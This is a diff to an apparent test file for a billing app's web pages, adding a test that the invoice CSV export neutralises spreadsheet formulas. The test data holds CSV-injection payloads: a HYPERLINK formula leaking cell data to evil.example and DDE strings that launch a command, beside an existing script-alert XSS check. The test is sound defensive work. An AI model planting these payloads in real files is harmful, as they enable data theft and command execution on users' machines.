@@ -1,6 +1,8 @@
 """The team's pages and the customer portal print hostile values as text: a customer,
 invoice, note, user or one-time message carrying markup cannot inject it."""
 
+import csv
+import io
 from datetime import timedelta
 from decimal import Decimal
 from urllib.parse import quote
@@ -84,3 +86,29 @@ def test_the_portal_escapes_hostile_values(world: World, hostile_customer: int) 
     assert page.status_code == 200
     assert_no_payload(page.text, where="portal")
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
+
+
+def test_the_invoice_download_neutralises_formulas(world: World) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    with transaction(world.engine, actor="test") as session:
+        customer = ledger.create_customer(
+            session, org_id=world.a.id, external_id="F1", name=formula, currency="EUR"
+        )
+        ledger.create_invoice(
+            session,
+            org_id=world.a.id,
+            customer_id=customer.id,
+            number="@SUM(1+1)*cmd|' /C calc'!A0",
+            issue_date=AS_OF - timedelta(days=10),
+            due_date=AS_OF + timedelta(days=20),
+            total=Decimal("10.00"),
+            po_number="+cmd|' /C calc'!A0",
+        )
+    client = make_client(world)
+    log_in(client, "admin@alpha.example")
+
+    rows = list(csv.DictReader(io.StringIO(client.get("/invoices.csv?q=F1").text)))
+
+    assert [(r["customer"], r["number"], r["po_number"], r["open"]) for r in rows] == [
+        ("'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "10.00")
+    ]
